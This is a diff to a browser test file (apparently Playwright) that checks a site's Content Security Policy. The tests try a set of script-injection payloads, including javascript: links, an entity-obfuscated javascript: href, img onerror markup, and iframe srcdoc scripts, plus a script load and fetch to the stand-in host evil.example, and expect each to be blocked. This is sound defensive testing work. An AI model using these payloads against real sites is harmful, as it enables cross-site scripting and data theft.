@@ -6,7 +6,6 @@ const attempts: Record<string, string> = {
   'a script as text': `const s = document.createElement('script'); s.text = 'window.taken = true'; document.body.append(s)`,
   'a link that is a script': `document.body.innerHTML = '<a href="javascript:window.taken = true">x</a>'`,
   'a hidden link that is a script': `document.body.innerHTML = '<a href="java&#115;cript:window.taken = true">x</a>'`,
-  'data that is markup': `document.body.innerHTML = '"<img src=x onerror=\\\\"window.taken = true\\\\">"'`,
   'text that is code': `setTimeout('window.taken = true')`,
   'a script of another host': `const s = document.createElement('script'); s.src = 'https://evil.example/x.js'; document.body.append(s)`,
   'a frame': `const f = document.createElement('iframe'); f.srcdoc = '<script>parent.taken = true</script>'; document.body.append(f)`,
@@ -31,6 +30,16 @@ test('what it sends by fetch to another host does not leave the browser', async 
   const outcome = await page.evaluate(() => fetch('https://evil.example/').then(String, (error) => error.name));
   expect(outcome).toBe('TypeError');
   expect(violations.splice(0).join()).toContain('connect-src');
+});
+
+test('data that holds markup stays data wherever it is put', async ({page}) => {
+  await open(page, '/docs/intro/');
+  const text = await page.evaluate(() => {
+    document.body.innerHTML = JSON.stringify('<img src=x onerror="window.taken = true">');
+    return document.body.textContent;
+  });
+  expect(text).toContain('img src=x');
+  await expect(page.locator('body *')).toHaveCount(0);
 });
 
 test('markup and data of the site itself pass the check', async ({page}) => {
